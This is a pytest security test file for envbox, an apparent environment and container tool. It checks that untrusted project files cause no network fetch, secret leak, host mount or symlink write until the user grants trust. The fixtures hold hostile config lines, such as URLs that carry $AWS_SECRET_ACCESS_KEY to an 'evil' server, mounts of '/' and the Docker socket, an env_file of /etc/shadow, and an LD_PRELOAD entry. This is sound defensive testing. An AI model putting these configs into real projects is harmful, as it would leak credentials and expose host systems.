"""Attacks by a project's files: nothing has an effect, and no request is sent, before its user allowed it."""

from __future__ import annotations

import json
import os
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pexpect
import pytest

from envbox.cli import run

SPEC = "channels: [conda-forge]\ndependencies: [python]\n"
NOTEBOOK = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
SECRET = "s3cret-value-of-the-caller"
LOCK = """\
metadata:
  content_hash:
    linux-64: '{zeros}'
  channels:
  - url: conda-forge
    used_env_vars: []
  platforms:
  - linux-64
  sources: []
  custom_metadata:
    envbox.base: {base}
    envbox.base-digest.linux-64: sha256:{zeros}
    envbox.glibc.linux-64: '2.36'
package:
- name: x
  version: '1'
  manager: conda
  platform: linux-64
  dependencies: {{}}
  url: {url}/noarch/x-1-0.conda
  hash:
    sha256: {zeros}
  category: main
  optional: false
version: 1
"""
LAUNCHES = (
    ["shell", "e"],
    ["run", "e", "true"],
    ["notebook", "e"],
    ["exec", "n.ipynb"],
    ["kernel", "add", "e"],
)
USES = (
    ["lock", "e"], ["lock"], ["lock", "--dry-run"], ["add", "numpy"], ["remove", "python"], ["build", "e"],
    ["build", "--dry-run"], ["push", "e", "127.0.0.1:1/x:1"], ["outdated"], ["size"],
    ["export", "--format", "pixi"], ["kernel", "run", "e", "-f", "connection.json"], *LAUNCHES,
)  # fmt: skip
LOOKS = (
    ["list"],
    ["tree"],
    ["why", "x"],
    ["lock", "--check"],
    ["lock", "--check", "e"],
    ["check", "n.ipynb"],
    ["kernel", "list"],
    ["trust", "--list"],
)


class Listener:
    """A server on this machine that an attacker has, and all that it was sent."""

    def __init__(self) -> None:
        heard: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(f"{self.path}\n{self.headers}")
                self.send_error(404)

            do_HEAD = do_POST = do_PUT = do_GET

            def log_message(self, *unused: object) -> None: ...

        self.heard = heard
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def server() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture
def listener(server: Listener) -> Listener:
    server.heard.clear()
    return server


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project of somebody's, in which we are, with a secret in the environment and nothing of our own."""
    root = tmp_path / "clone"
    (root / "environments").mkdir(parents=True)
    (root / "environments/e.yml").write_text(SPEC)
    (root / "n.ipynb").write_text(NOTEBOOK)
    (root / "connection.json").write_text(json.dumps(dict.fromkeys(
        ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port"), 1)))  # fmt: skip
    monkeypatch.chdir(root)
    for name in list(os.environ):
        if name.startswith("ENVBOX_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("ENVBOX_CONFIG", os.devnull)
    monkeypatch.setenv("ENVBOX_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("ENVBOX_TIMEOUT", "2")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    return root


def write(root: Path, attack: str, listener: Listener) -> None:
    """Put an attack into a project's files: `FILE: TEXT`, with the attacker's server and blanks filled in."""
    name, _, text = attack.partition(": ")
    text = text.format(evil=listener.address, zeros="ab" * 32)
    path = root / name
    if name == "lock":
        base, _, url = text.partition(" ")
        path = root / "environments/e.conda-lock.yml"
        text = LOCK.format(base=base, url=url, zeros="ab" * 32)
        (root / "environments/e.yml").unlink()
    elif name == "link":
        path = root / "environments/e.conda-lock.yml"
        path.symlink_to(text)
        return
    path.write_text(text)


BASE = "docker.io/continuumio/miniconda3:1"
FETCHING = [
    "environments/e.yml: channels: ['http://{evil}/c']\ndependencies: [python]\n",
    "environments/e.yml: channels: ['http://{evil}/t/$AWS_SECRET_ACCESS_KEY/c']\ndependencies: [python]\n",
    "environments/e.yml: channels: ['http://u:${{AWS_SECRET_ACCESS_KEY}}@{evil}/c']\ndependencies: [x]\n",
    "environments/e.yml: dependencies: ['http://{evil}/$AWS_SECRET_ACCESS_KEY::python']\n",
    "environments/e.yml: dependencies: ['http://{evil}/c/noarch/python-1-0.conda']\n",
    "environments/e.yml: dependencies: [' evil-$AWS_SECRET_ACCESS_KEY ::python']\n",
    "environments/e.yml: dependencies: ['evil-$AWS_SECRET_ACCESS_KEY:x:python']\n",
    "environments/e.yml: dependencies: [pip, {{pip: [x]}}]\npip-repositories: ['http://$AWS_SECRET_ACCESS_KEY@{evil}/']\n",
    "environments/e.yml: dependencies: [pip, {{pip: ['x @ http://{evil}/x-1-py3-none-any.whl#sha256={zeros}']}}]\n",
    'envbox.toml: channels = ["http://{evil}/c"]',
    'envbox.toml: mapping_url = "http://{evil}/m"',
    'envbox.toml: extra_index_urls = ["http://$AWS_SECRET_ACCESS_KEY@{evil}/simple"]',
    'envbox.toml: ca_bundle = "ca.pem"',
    'envbox.toml: base = "{evil}/base:1"',
    'envbox.toml: [environments.e]\nbase = "{evil}/base:1"',
    'envbox.toml: [mirrors]\n"https://conda.anaconda.org" = "http://{evil}/$AWS_SECRET_ACCESS_KEY"',
    'envbox.toml: [mirrors]\n"docker.io" = "http://u:$AWS_SECRET_ACCESS_KEY@{evil}"',
    'pyproject.toml: [tool.envbox.mirrors]\n"https://conda.anaconda.org" = "http://{evil}/$AWS_SECRET_ACCESS_KEY"',
    "lock: {evil}/base:1 https://conda.anaconda.org/conda-forge",
    f"lock: {BASE} http://{{evil}}/c",
    f"lock: {BASE} https://conda.anaconda.org/evil",
    "link: ../../outside",
]
HEARD = 'envbox.toml: [mirrors]\n"docker.io" = "{evil}/$AWS_SECRET_ACCESS_KEY"'  # the first that a lock asks
STARTING = [
    'envbox.toml: [environments.e]\nvolumes = ["/:/host"]',
    'envbox.toml: [environments.e]\nvolumes = ["/var/run/docker.sock:/s"]',
    'envbox.toml: [environments.e]\nvolumes = ["environments/../../..:/above"]',
    'envbox.toml: [environments.e]\nenv_file = "/etc/shadow"',
    'envbox.toml: [environments.e]\nnetwork = "host"',
    'envbox.toml: [environments.e]\nenv = {{ JUPYTER_CONFIG_PATH = "/work/evil" }}',
    'pyproject.toml: [tool.envbox.environments.e]\nvolumes = ["/:/host"]',
    'envbox.toml: jupyter = "environments/e.yml"',
    'envbox.toml: engine = "host"',
    "environments/e.yml: dependencies: [python]\nvariables: {{LD_PRELOAD: /work/evil.so}}\n",
]


def refused(command: list[str], capsys: pytest.CaptureFixture[str], hint: str = "envbox trust ") -> str:
    assert run(command) == 1, command
    said = capsys.readouterr().err
    assert "needs to be trusted first" in said, (command, said)
    assert hint in said
    assert SECRET not in said
    return said


@pytest.mark.parametrize("attack", FETCHING)
def test_nothing_is_fetched_for_a_project_before_it_is_trusted(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], attack: str
) -> None:
    write(project, attack, listener)
    before = sorted(p for p in project.rglob("*"))
    commands = [c for c in USES if not (attack.startswith("lock:") and c[0] in ("lock", "add", "remove"))]
    for command in commands:
        refused(command, capsys)
    assert not listener.heard
    assert sorted(p for p in project.rglob("*")) == before
    assert not (project.parent / "outside").exists()


@pytest.mark.parametrize("attack", STARTING)
def test_nothing_is_started_for_a_project_before_it_is_trusted(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], attack: str
) -> None:
    write(project, attack, listener)
    for command in (*LAUNCHES, ["kernel", "run", "e", "-f", "connection.json"]):
        refused(command, capsys)


@pytest.mark.parametrize("attack", [*FETCHING[:-1], *STARTING])
def test_who_only_looks_is_not_asked(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], attack: str
) -> None:
    write(project, attack, listener)
    for command in LOOKS:
        run(command)
        assert "trust" not in capsys.readouterr().err.replace("envbox trust", "")
    assert not listener.heard


def test_a_completion_asks_nobody(project: Path, listener: Listener) -> None:
    import click

    from envbox.cli.context import complete_name
    from envbox.cli.launch import shell

    write(project, FETCHING[1], listener)
    (project / "envbox.toml").write_text('[mirrors]\n"docker.io" = "http://$NOT_SET"\n')
    ctx = click.Context(shell, parent=click.Context(click.Group("envbox")))
    assert complete_name(ctx, shell.params[0], "") == ["e"]


def test_once_it_is_allowed_it_has_its_effect_and_until_then_it_had_none(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str]
) -> None:
    write(project, HEARD, listener)
    refused(["lock"], capsys)
    assert not listener.heard
    assert run(["trust"]) == 0
    told = capsys.readouterr().out
    assert f"sends the value of $AWS_SECRET_ACCESS_KEY to {listener.address}" in told
    assert run(["lock"]) == 1
    assert any(SECRET in one for one in listener.heard)  # so the listener would have heard it before
    assert "needs to be trusted" not in capsys.readouterr().err


def test_what_changes_is_asked_for_again_and_what_is_revoked_too(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str]
) -> None:
    toml = project / "envbox.toml"
    toml.write_text('[environments.e]\nvolumes = ["/srv:/data:ro"]\n')
    assert run(["trust", "--yes"]) == 0
    session = ["trust", "--show", "--json"]
    assert is_allowed(session, capsys)
    toml.write_text('[environments.e]\nvolumes = ["/srv:/data"]\n')
    assert not is_allowed(session, capsys)
    said = refused(["shell", "e"], capsys)
    assert "mounts /srv at /data, writable" in said
    assert run(["trust"]) == 0
    assert is_allowed(session, capsys)
    (project / "environments/e.yml").write_text(SPEC + "# another comment\n")
    assert is_allowed(session, capsys)
    assert run(["trust", "--revoke"]) == 0
    refused(["shell", "e"], capsys)


def is_allowed(command: list[str], capsys: pytest.CaptureFixture[str]) -> bool:
    capsys.readouterr()
    assert run(command) == 0
    asks = json.loads(capsys.readouterr().out)["asks"]
    assert asks
    return all(one["allowed"] for one in asks)


def test_another_path_asks_again(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    (project / "envbox.toml").write_text('[environments.e]\nnetwork = "host"\n')
    assert run(["trust"]) == 0
    shutil.copytree(project, project.parent / "copy")
    monkeypatch.chdir(project.parent / "copy")
    refused(["shell", "e"], capsys)


def test_a_link_that_is_led_elsewhere_asks_again(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "envbox.toml").write_text('[environments.e]\nvolumes = ["./data:/data"]\n')
    (project / "data").symlink_to("/srv")
    assert run(["trust"]) == 0
    (project / "data").unlink()
    (project / "data").symlink_to("/etc")
    assert "mounts /etc" in refused(["shell", "e"], capsys)


def test_a_machine_says_the_digest(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    write(project, HEARD, listener)
    assert run(["trust", "--show"]) == 0
    digest = capsys.readouterr().out.split()[-1]
    monkeypatch.setenv("ENVBOX_TRUST", digest)
    run(["lock"])
    assert listener.heard
    with (project / "envbox.toml").open("a") as file:
        file.write('\n[environments.e]\nnetwork = "host"\n')  # which a lock has no use for
    listener.heard.clear()
    assert "ENVBOX_TRUST is not the digest" in refused(["lock"], capsys)
    assert not listener.heard
    monkeypatch.delenv("ENVBOX_TRUST")
    refused(["lock"], capsys)  # nothing was kept


def test_one_call_may_be_trusted(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str]
) -> None:
    write(project, HEARD, listener)
    run(["--trust", "lock"])
    assert listener.heard
    refused(["lock"], capsys)


def test_a_lockfile_by_its_path_is_allowed_by_its_path(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str]
) -> None:
    file = project.parent / "theirs.conda-lock.yml"
    file.write_text(LOCK.format(base=BASE, url=f"http://{listener.address}/c", zeros="ab" * 32))
    assert f"envbox trust {file}" in refused(["build", str(file)], capsys)
    assert run(["trust", str(file)]) == 0
    run(["build", str(file), "--output", "x.oci.tar"])
    assert "needs to be trusted" not in capsys.readouterr().err


def test_own_mirrors_and_channels_ask_nothing(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "environments/e.yml").write_text("channels: [lab]\ndependencies: [python]\n")
    monkeypatch.setenv(
        "ENVBOX_MIRRORS",
        f"https://conda.anaconda.org/lab=http://{listener.address}/lab docker.io={listener.address}",
    )
    assert run(["lock"]) == 1
    assert listener.heard
    assert "needs to be trusted" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "text",
    [
        "# platform: linux-64\n@EXPLICIT\nhttp://{}/c/noarch/x-1-0.conda\n",
        "channels: ['http://{}/c']\ndependencies: [x]\n",
    ],
)
def test_a_file_to_be_imported_is_asked_about(
    project: Path,
    listener: Listener,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    text: str,
) -> None:
    monkeypatch.setenv("ENVBOX_MIRRORS", f"docker.io={listener.address}")
    file = project.parent / "theirs.txt"
    file.write_text(text.format(listener.address))
    assert f"envbox trust {file}" in refused(["import", str(file)], capsys)
    assert not listener.heard
    assert run(["trust", str(file)]) == 0
    run(["import", str(file)])
    assert listener.heard


def test_no_jupyter_of_the_project_is_put_beside_an_image_of_anothers(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from types import SimpleNamespace

    from envbox.cli import beside
    from envbox.cli.context import Invocation
    from envbox.sessions.jupyter import own_server
    from envbox.sessions.launch import probe
    from envbox.sessions.launch.container import Launch

    (project / "envbox.toml").write_text('jupyter = "environments/e.yml"\nown_path = true\n')
    taken = []
    monkeypatch.setattr(beside, "can_be_beside", lambda *_: None)
    monkeypatch.setattr(probe, "look_inside", lambda *_: probe.ImageFacts("2.36", has_kernels=True))
    monkeypatch.setattr(own_server, "obtain_jupyter", lambda where, settings, report: taken.append(settings))

    def put() -> tuple[Path | None, bool]:
        invocation = Invocation(str(project), quiet=True, verbose=False)
        invocation.__dict__["engine"] = SimpleNamespace(platform="linux-64")
        launch = Launch(image="i", name="n", project=project, kind="notebook", command=())
        beside.with_jupyter_beside_image(invocation, launch, None)
        return taken[-1].jupyter, taken[-1].own_path

    assert put() == (None, False)
    (project.parent / "own.toml").write_text(f'jupyter = "{project}/own.yml"\n')
    monkeypatch.setenv("ENVBOX_CONFIG", str(project.parent / "own.toml"))
    assert put() == (project / "own.yml", False)


@pytest.mark.parametrize(
    ("link", "command"),
    [
        ("environments/f.yml", ["import", "theirs.txt", "--name", "f", "--force"]),
        ("environments/f.conda-lock.yml", ["import", "theirs.txt", "--name", "f", "--force"]),
        ("environments/f.yml", ["init", "-n", "f"]),
        ("n.ipynb", ["stamp", "n.ipynb", "-n", "e"]),
        ("out.txt", ["export", "e", "--format", "conda-lock", "-o", "out.txt"]),
        ("sub/out.txt", ["export", "e", "--format", "conda-lock", "-o", "sub/out.txt"]),
        ("x.oci.tar", ["build", "e", "--frozen", "-o", "x.oci.tar"]),
    ],
)
def test_nothing_is_written_where_a_link_leads_out(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], link: str, command: list[str]
) -> None:
    victim = project.parent / "victim"
    lock = LOCK.format(base=BASE, url="https://conda.anaconda.org/conda-forge", zeros="ab" * 32)
    (project / "environments/e.conda-lock.yml").write_text(lock)
    (project / "theirs.txt").write_text(EXPLICIT.format(listener.address).replace(
        f"http://{listener.address}/c", "https://conda.anaconda.org/conda-forge"))  # fmt: skip
    (project / "sub").mkdir()
    (project / link).unlink(missing_ok=True)
    (project / link).symlink_to(victim)
    if link == "n.ipynb":
        victim.write_text(NOTEBOOK)
    before = victim.read_text() if victim.exists() else None
    said = refused(["--offline", *command], capsys, hint="envbox --trust")
    assert f"reads and writes {victim}" in said
    assert "envbox trust " not in said or "environments/" in link
    assert (victim.read_text() if victim.exists() else None) == before


def test_a_lockfile_of_an_image_is_not_written_where_a_link_leads_out(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from envbox.images import embedded_lock

    monkeypatch.setattr(embedded_lock, "lockfile_in_registry", lambda *_: b"lock")
    (project / "environments/f.conda-lock.yml").symlink_to(project.parent / "victim")
    refused(["lock", "--from-image", "x", "--platform", "linux-64", "f"], capsys, hint="envbox --trust")
    assert not (project.parent / "victim").exists()


@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml", "a.py", "a.ipynb"])
def test_what_a_link_leads_out_to_is_not_read_into_a_spec(
    project: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    other = project.parent / name
    other.write_text({
        "requirements.txt": "secretpackage\n",
        "pyproject.toml": '[project]\ndependencies = ["secretpackage"]\n',
        "a.py": "import secretpackage\n",
        "a.ipynb": NOTEBOOK.replace("[]", '[{"cell_type": "code", "metadata": {}, "outputs": [], '
            '"execution_count": null, "source": "import secretpackage"}]'),
    }[name])  # fmt: skip
    (project / name).symlink_to(other)
    assert run(["--trust", "--offline", "init", "-n", "f"]) == 0  # settings by a link are asked about
    said = capsys.readouterr().err
    assert f"{name} was not read: it is a link out of" in said
    assert "secretpackage" not in said + (project / "environments/f.yml").read_text()


def test_a_spec_by_its_path_is_allowed_by_its_path(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ENVBOX_MIRRORS", f"docker.io={listener.address}")
    file = project.parent / "theirs.yml"
    file.write_text(f"channels: ['http://{listener.address}/c']\ndependencies: [x]\n")
    lock = project.parent / "theirs.conda-lock.yml"
    lock.write_text(LOCK.format(base="evil.example/b:1", url="https://evil.example/c", zeros="ab" * 32))
    assert f"envbox trust {file};" in refused(["lock", str(file)], capsys)
    assert run(["trust", str(file)]) == 0
    assert run(["lock", str(file)]) == 1
    assert "needs to be trusted" not in capsys.readouterr().err
    assert listener.heard


def test_what_is_trusted_is_looked_for_where_the_invocation_is(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (project.parent / "other").mkdir()
    file = project.parent / "other/theirs.yml"
    file.write_text("channels: [evil]\ndependencies: [x]\n")
    monkeypatch.chdir("/")
    said = refused(["-C", str(project), "lock", "../other/theirs.yml"], capsys)
    assert f"envbox trust {file};" in said
    assert run(["-C", str(project), "trust", "../other/theirs.yml"]) == 0
    assert is_allowed(["-C", str(project), "trust", "--show", "--json", "../other/theirs.yml"], capsys)
    assert run(["-C", str(project), "trust", "../none.yml"]) == 2
    assert f"there is no {project.parent}/none.yml" in capsys.readouterr().err
    write(project, HEARD, listener)
    refused(["-C", str(project), "lock"], capsys)
    assert run(["-C", str(project / "environments"), "trust", ".."]) == 0
    assert is_allowed(["-C", str(project), "trust", "--show", "--json"], capsys)


EXPLICIT = "# platform: linux-64\n@EXPLICIT\nhttp://{}/c/noarch/x-1-0.conda\n"


def test_a_check_takes_no_lockfile_over_before_it_is_allowed(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ENVBOX_MIRRORS", f"docker.io={listener.address}")
    (project / "environments/e.yml").unlink()
    (project / "explicit.txt").write_text(EXPLICIT.format(listener.address))
    refused(["check", "n.ipynb"], capsys)
    assert not listener.heard
    run(["--trust", "check", "n.ipynb"])
    assert listener.heard


@pytest.mark.parametrize(
    "command",
    [["exec"], ["run"], ["build"], ["kernel", "add"], ["notebook"], ["size"], ["export", "--format=pixi"]],
)
def test_a_notebook_of_another_project_is_judged_as_that_project(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    write(project, HEARD, listener)
    own = project.parent / "own"
    (own / "environments").mkdir(parents=True)
    (own / "environments/e.yml").write_text(SPEC)
    (own / "environments/e.conda-lock.yml").write_text(
        LOCK.format(base=BASE, url="https://conda.anaconda.org/conda-forge", zeros="ab" * 32)
    )
    said = refused(["-C", str(own), *command, "../clone/n.ipynb"], capsys)
    assert f"{project} needs to be trusted first" in said
    assert not listener.heard


def test_a_plain_project_asks_nothing(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "data").mkdir()
    (project / "envbox.toml").write_text(
        'environment = "e"\njobs = 2\n[environments.e]\ncommand = ["true"]\nmemory = "4g"\ngpus = "all"\n'
        'ports = ["8000"]\nvolumes = ["./data:/data"]\nenv = { PGHOST = "db", X = "" }\n'
    )
    assert run(["trust", "--show", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["asks"] == []


def test_this_repository_asks_for_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    root = Path(__file__).parents[1]
    assert run(["-C", str(root), "trust", "--show", "--json"]) == 0
    asks = json.loads(capsys.readouterr().out)["asks"]
    assert [one for one in asks if not one["words"].startswith("belongs to")] == []


# --- a person at a terminal ---------------------------------------------------------------------------------


def terminal(*arguments: str, cwd: Path) -> pexpect.spawn[str]:
    return pexpect.spawn(
        sys.executable, ["-m", "envbox", *arguments], cwd=str(cwd), encoding="utf-8", timeout=60
    )


def test_at_a_terminal_it_is_asked_once(project: Path, listener: Listener) -> None:
    write(project, HEARD, listener)
    child = terminal("lock", cwd=project)
    child.expect("fetches from 127")
    child.expect(r"Allow that, from now on\? \[y/N\]")
    child.sendline("")
    child.expect("needs to be trusted first")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 1
    assert not listener.heard
    child = terminal("lock", cwd=project)
    child.expect(r"\[y/N\]")
    child.sendline("y")
    child.expect(pexpect.EOF)
    assert listener.heard
    child = terminal("lock", cwd=project)
    child.expect(pexpect.EOF)
    assert "Allow" not in (child.before or "")


def test_trust_itself_asks_at_a_terminal(project: Path, listener: Listener) -> None:
    write(project, HEARD, listener)
    child = terminal("trust", cwd=project)
    child.expect(r"Allow that\? \[y/N\]")
    child.sendline("n")
    child.expect("nothing is allowed")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 1
    child = terminal("trust", "--yes", cwd=project)
    child.expect("allowed to")
    child.expect(pexpect.EOF)
    child = terminal("trust", "--list", cwd=project)
    child.expect("fetches from")


def test_an_allowance_that_others_could_write_is_said_and_not_believed(
    project: Path, listener: Listener, capsys: pytest.CaptureFixture[str]
) -> None:
    write(project, HEARD, listener)
    assert run(["trust"]) == 0
    (file,) = (project.parent / "state/envbox/trust").glob("*.json")
    file.chmod(0o666)
    assert "others may write" in refused(["lock"], capsys)
    assert not listener.heard


# --- whose project it is ------------------------------------------------------------------------------------

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
ALICE = 54321


@needs_root
@pytest.mark.parametrize("what", [".", "envbox.toml", "environments", "environments/e.yml"])
def test_the_project_of_another_is_refused(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, what: str
) -> None:
    (project / "envbox.toml").write_text('[environments.e]\ncommand = ["true"]\n')
    (project / "sub").mkdir()
    monkeypatch.chdir(project / "sub")
    os.chown(project / what, ALICE, ALICE)
    said = refused(["run"], capsys)
    assert f"belongs to somebody without a name here (uid {ALICE})" in said
    refused(["lock"], capsys)
    monkeypatch.setenv("SUDO_UID", str(ALICE))
    assert run(["trust", "--show", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["asks"] == []
    monkeypatch.delenv("SUDO_UID")
    assert run(["trust"]) == 0
    assert is_allowed(["trust", "--show", "--json"], capsys)


@needs_root
def test_the_notebook_of_another_is_refused(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    os.chown(project / "n.ipynb", ALICE, ALICE)
    for command in (
        ["exec", "n.ipynb"],
        ["exec", "-n", "e", "n.ipynb"],
        ["notebook", "n.ipynb"],
        ["run", "n.ipynb"],
    ):
        assert "n.ipynb" in refused(command, capsys)


@pytest.mark.parametrize("name", ["n.out.ipynb", "n.out.html"])
def test_a_result_is_not_led_out_of_the_project_by_a_link(
    project: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    (project / name).symlink_to(project.parent / "victim")
    said = refused(["exec", "--html", "n.ipynb"], capsys, hint="envbox --trust")
    assert f"reads and writes {project.parent}/victim" in said
    assert "envbox trust " not in said
    refused(["exec", "-n", "e", "--html", "n.ipynb"], capsys, hint="envbox --trust")
    if name.endswith(".html"):  # which is not written
        run(["--offline", "exec", "--engine", "docker", "n.ipynb"])
        assert "needs to be trusted" not in capsys.readouterr().err
    (project / name).unlink()
    (project / name).symlink_to("inside")
    assert run(["trust", "--show", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["asks"] == []


def test_a_project_in_a_folder_that_everybody_can_write_to_is_refused_from_below(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (project / "sub").mkdir()
    project.chmod(0o777)
    monkeypatch.chdir(project / "sub")
    assert "everybody can write to" in refused(["lock"], capsys)


def test_a_stamp_leads_nowhere_but_to_an_environment_of_the_project(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (project / "environments/f.yml").write_text(SPEC)
    for name in ("../../x", "/etc/passwd", "docker.io/evil/x:1", "-h"):
        stamped = json.loads(NOTEBOOK)
        stamped["metadata"] = {"envbox": {"environment": name, "lock": "sha256:" + "0" * 64}}
        (project / "n.ipynb").write_text(json.dumps(stamped))
        assert run(["exec", "n.ipynb"]) == 1
        assert "is not an environment's name" in capsys.readouterr().err
